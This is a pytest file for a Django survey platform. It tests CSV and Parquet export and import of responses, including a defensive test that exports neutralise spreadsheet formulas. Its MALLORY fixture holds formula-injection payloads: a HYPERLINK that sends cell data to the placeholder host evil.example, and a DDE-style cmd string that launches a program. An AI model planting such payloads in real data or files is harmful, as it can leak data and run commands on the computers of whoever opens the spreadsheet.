"""globaldialogue export-responses and import-responses (paper.management): files for open
data and paper forms."""

import csv
import io

import pyarrow.parquet as pq
import pytest
from django.core.management import CommandError, call_command

from globaldialogue.audit.models import Entry
from globaldialogue.surveys import actions
from globaldialogue.surveys.demo import load_synthetic_sample
from globaldialogue.testing import payload

NOTHING_NEW = "0 created, {} duplicate, 0 corrected, 0 kept, 0 conflict, 0 error"


def submit(survey, count=3):
    subs = [actions.Submission(**payload(language="es")) for _ in range(count)]
    actions.submit_responses(survey=survey, submissions=subs, channel="api")


def read_csv(path):
    with path.open(encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_csv_export_has_one_row_per_response_and_a_codebook(un75, tmp_path):
    submit(un75)
    load_synthetic_sample(un75, 20)
    out = tmp_path / "un75.csv"
    call_command(
        "export_responses", survey="un75", format="csv", output=str(out), stdout=io.StringIO()
    )
    rows = read_csv(out)
    assert len(rows) == 3  # synthetic responses are left out by default
    row = rows[0]
    assert row["language"] == "es" and row["channel"] == "api" and row["version"] == "1"
    assert row["future_outlook"] == "better"
    assert (row["world_2045__less_conflict"], row["world_2045__environment"]) == ("1", "0")
    assert (row["world_2045__other"], row["world_2045__other_text"]) == ("1", "La paix partout")
    assert row["country"] == "FR"
    codebook = {r["column"]: r for r in read_csv(tmp_path / "un75.codebook.csv")}
    assert codebook["world_2045__environment"]["label_fr"].endswith(
        ": Une meilleure protection de l'environnement"
    )
    assert codebook["cooperation"]["values"] == "not_important slightly moderately very essential"
    exported = Entry.objects.get(action="export_responses")
    assert exported.summary == {"public": False, "rows": 3, "output": str(out)}


def test_synthetic_responses_can_be_included(un75, tmp_path):
    load_synthetic_sample(un75, 20)
    out = tmp_path / "all.csv"
    call_command(
        "export_responses",
        survey="un75",
        output=str(out),
        include_synthetic=True,
        stdout=io.StringIO(),
    )
    assert len(read_csv(out)) == 20


def test_parquet_export_has_typed_columns(un75, tmp_path):
    submit(un75, 5)
    out = tmp_path / "un75.parquet"
    call_command(
        "export_responses", survey="un75", format="parquet", output=str(out), stdout=io.StringIO()
    )
    table = pq.read_table(out)
    assert table.num_rows == 5
    assert str(table.schema.field("trends__health").type) == "int64"
    assert table.column("country").to_pylist() == ["FR"] * 5


def test_parquet_rows_come_in_whole_row_groups_as_in_the_csv(un75, tmp_path, monkeypatch):
    from globaldialogue.surveys import exports

    monkeypatch.setattr(exports, "ROW_GROUP", 7)
    submit(un75, 40)
    for kind in ("csv", "parquet"):
        call_command(
            "export_responses",
            survey="un75",
            format=kind,
            output=str(tmp_path / f"un75.{kind}"),
            stdout=io.StringIO(),
        )
    parquet = pq.ParquetFile(tmp_path / "un75.parquet")
    sizes = [parquet.metadata.row_group(i).num_rows for i in range(parquet.num_row_groups)]
    assert sizes == [7] * 5 + [5]
    rows = read_csv(tmp_path / "un75.csv")
    assert parquet.read().column("id").to_pylist() == [row["id"] for row in rows]


def test_an_export_imports_back_as_duplicates(un75, tmp_path):
    submit(un75, 4)
    out = tmp_path / "un75.csv"
    call_command("export_responses", survey="un75", output=str(out), stdout=io.StringIO())
    report = io.StringIO()
    call_command("import_responses", str(out), survey="un75", stdout=report)
    assert (
        report.getvalue().strip()
        == "0 created, 4 duplicate, 0 corrected, 0 kept, 0 conflict, 0 error"
    )


def test_unknown_survey_or_file_is_refused(un75, tmp_path):
    with pytest.raises(CommandError, match="No published survey"):
        call_command("export_responses", survey="nope", output=str(tmp_path / "x.csv"))
    with pytest.raises(CommandError, match="does not exist"):
        call_command("import_responses", str(tmp_path / "none.csv"), survey="un75")


MALLORY = {  # answers a spreadsheet would run as formulas if written as they are
    "advice": '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "world_2045": [{"option": "other", "text": "@SUM(1+1)*cmd|' /C calc'!A0"}],
}


def test_exports_defuse_formulas_for_spreadsheets_and_import_back_unchanged(un75, tmp_path):
    plain = payload(answers={**MALLORY, "future_outlook": "better"})
    apostrophe = payload(answers={"advice": "'quoted' on purpose", "future_outlook": "worse"})
    subs = [actions.Submission(**plain), actions.Submission(**apostrophe)]
    actions.submit_responses(survey=un75, submissions=subs, channel="api")
    out = tmp_path / "un75.csv"
    call_command("export_responses", survey="un75", output=str(out), stdout=io.StringIO())
    rows = {row["future_outlook"]: row for row in read_csv(out)}
    assert rows["better"]["advice"] == "'" + MALLORY["advice"]
    assert rows["better"]["world_2045__other_text"].startswith("'@SUM")
    assert rows["worse"]["advice"] == "''quoted' on purpose"
    parquet = tmp_path / "un75.parquet"
    call_command(
        "export_responses",
        survey="un75",
        format="parquet",
        output=str(parquet),
        stdout=io.StringIO(),
    )
    assert MALLORY["advice"] in pq.read_table(parquet).column("advice").to_pylist()
    report = io.StringIO()
    call_command("import_responses", str(out), survey="un75", stdout=report)
    assert (
        report.getvalue().strip()
        == "0 created, 2 duplicate, 0 corrected, 0 kept, 0 conflict, 0 error"
    )
